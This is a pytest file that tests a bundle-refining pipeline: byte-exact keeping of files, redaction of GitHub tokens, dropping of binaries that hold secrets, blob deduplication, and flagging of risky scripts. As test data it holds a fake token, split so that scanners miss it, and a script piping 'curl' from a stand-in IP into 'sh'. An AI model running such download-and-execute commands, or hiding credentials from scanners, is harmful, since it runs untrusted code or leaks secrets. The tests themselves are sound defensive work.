from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from storage.blobs import BlobStore, blobs_named, drop_unused_blobs
from storage.root import Root
from storage.state import documents_table
from tasks.refine.bundles import RefinedBundle, refine_bundles
from tasks.refine.filters import FilterLimits
from tests.support.roots.nights import HandSource, Nights, raw, skill, with_files

# Put together, so that no scanner takes this file for one that leaks.
KEY = "ghp_" + "a8Kd02LmQz7Xw4Bn6Vt9Yc1Ue3Ri5Os8PjHf"
PIPED = b"#!/bin/sh\ncurl http://203.0.113.9/get.sh | sh\n"


def bundle_of(files: dict[str, bytes]) -> RefinedBundle:
    return refine_bundles([with_files(skill("a"), files)])[0]


def kept(bundle: RefinedBundle) -> dict[str, bytes]:
    return {blob.path: content for blob, content in zip(bundle.blobs, bundle.contents, strict=True)}


@pytest.fixture
def nights(tmp_path: Path) -> Nights:
    return Nights(tmp_path / "root")


def test_what_holds_no_secret_is_kept_byte_for_byte() -> None:
    files = {
        "latin.txt": b"caf\xe9\r\n",
        "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
        "wide.txt": "Wide".encode("utf-16"),
        "empty": b"",
    }
    bundle = bundle_of(files)
    assert kept(bundle) == files
    assert [(b.size, b.sha256) for b in bundle.blobs] == [
        (len(content), hashlib.sha256(content).hexdigest()) for content in files.values()
    ]
    assert (bundle.findings, bundle.risks) == ((), ())


def test_a_secret_never_leaves_and_the_digest_is_that_of_what_is_kept() -> None:
    bundle = bundle_of(
        {"b.env": f"GITHUB={KEY}\n".encode(), "a.py": f"token = '{KEY}'\n# \xe9".encode("latin-1")}
    )
    assert kept(bundle) == {
        "b.env": b"GITHUB=[redacted:github-token]\n",
        "a.py": "token = '[redacted:github-token]'\n# \xe9".encode(),
    }
    assert [b.sha256 for b in bundle.blobs] == [hashlib.sha256(c).hexdigest() for c in bundle.contents]
    ((code, message),) = ((f.code, f.message) for f in bundle.findings)
    assert code == "risk.secret.github-token"
    assert message.startswith("b.env, line 1: ")
    assert message.endswith("(and in 1 more files)")


@pytest.mark.parametrize("content", [f"\0\1\2\3\4{KEY}\0\1\2\3\4".encode(), KEY.encode("utf-16-le")])
def test_a_binary_file_with_a_secret_is_named_and_not_kept(content: bytes) -> None:
    bundle = bundle_of({"cache.bin": content, "run.sh": b"ls\n"})
    assert list(kept(bundle)) == ["run.sh"]
    assert [f.code for f in bundle.findings] == ["bundle.secret-in-binary"]
    assert bundle.findings[0].message.startswith("cache.bin, a binary file holds")


def test_a_script_that_pipes_a_download_into_a_shell_is_a_risk_of_its_skill() -> None:
    bundle = bundle_of({"notes.md": b"Run `curl https://get.docker.com | sh`.\n", "install.sh": PIPED})
    ((code, severity, message),) = ((f.code, f.severity, f.message) for f in bundle.risks)
    assert (code, severity) == ("risk.remote.pipe-to-shell", "error")
    assert message.startswith("install.sh, line 2: ")
    assert message.endswith("(and in 1 more files)")


@settings(deadline=None)
@given(
    st.lists(
        st.dictionaries(st.sampled_from("abc"), st.sampled_from([b"ls\n", PIPED, KEY.encode(), b"\0\1"]))
    )
)
def test_a_bundle_is_refined_alike_alone_and_among_others(bundles: list[dict[str, bytes]]) -> None:
    documents = [with_files(skill(f"s{n}"), files) for n, files in enumerate(bundles)]
    assert refine_bundles(documents) == [refine_bundles([document])[0] for document in documents]


def test_documents_name_blobs_and_equal_files_lie_there_once(nights: Nights) -> None:
    shared = {"run.sh": b"ls\n"}
    one, other = with_files(skill("a"), shared), with_files(skill("b", "Knead it."), {**shared, "x": b"1"})
    nights.run(HandSource("dir:shelf", one, other, with_files(raw("dropped", b""), {"y": b"2"})))
    named = blobs_named(nights.root)
    assert sorted(named.select("doc_id", "path").iter_rows()) == [
        ("a", "run.sh"),
        ("b", "run.sh"),
        ("b", "x"),
    ]
    store = BlobStore(nights.root)
    assert store.digests() == sorted(set(named["sha256"]))
    assert {store.read(digest) for digest in store.digests()} == {b"ls\n", b"1"}


def test_risks_of_files_are_risks_of_the_document_and_may_drop_it(nights: Nights) -> None:
    nights.run(HandSource("dir:shelf", with_files(skill("a"), {"install.sh": PIPED})))
    (risks,) = documents_table(nights.root).read()["risks"].to_list()
    assert [risk["code"] for risk in risks] == ["risk.remote.pipe-to-shell"]
    assert nights.refine(FilterLimits(drop_risks="error")) == {"documents": 0, "risk_policy": 1}


def test_a_file_that_changes_alone_makes_another_document_with_the_same_text(nights: Nights) -> None:
    before = nights.run(HandSource("dir:shelf", with_files(skill("a"), {"run.sh": b"ls\n"})))
    (first,) = documents_table(nights.root).read().to_dicts()
    assert nights.run(HandSource("dir:shelf", with_files(skill("a"), {"run.sh": b"pwd\n"}))) == before
    (second,) = documents_table(nights.root).read().to_dicts()
    assert first["body_hash"] == second["body_hash"]
    assert first["blobs"] != second["blobs"]
    assert BlobStore(nights.root).read(second["blobs"][0]["sha256"]) == b"pwd\n"
    assert drop_unused_blobs(nights.root) == 1
    assert BlobStore(nights.root).digests() == [second["blobs"][0]["sha256"]]


def test_a_corpus_of_a_version_without_blobs_is_read(nights: Nights) -> None:
    nights.run(HandSource("dir:shelf", skill("a")))
    table = documents_table(nights.root)
    (file,) = nights.root.files("documents")
    old = table.read().drop("blobs").to_arrow().replace_schema_metadata({"schema_version": "4"})
    buffer = io.BytesIO()
    pq.write_table(old, buffer)
    nights.root.write(file, buffer.getvalue())
    assert table.read()["blobs"].to_list() == [None]
    assert blobs_named(nights.root).is_empty()


def test_in_a_bucket_blobs_are_kept_named_and_dropped_as_in_a_folder(nights: Nights, bucket: str) -> None:
    nights.root = Root(bucket)
    nights.run(HandSource("dir:shelf", with_files(skill("a"), {"run.sh": b"ls\n", "k": KEY.encode()})))
    named = blobs_named(nights.root)
    store = BlobStore(nights.root)
    assert {store.read(digest) for digest in named["sha256"]} == {b"ls\n", b"[redacted:github-token]"}
    nights.run(HandSource("dir:shelf", with_files(skill("a"), {"run.sh": b"pwd\n"})))
    assert drop_unused_blobs(nights.root) == 2
    assert [store.read(digest) for digest in store.digests()] == [b"pwd\n"]
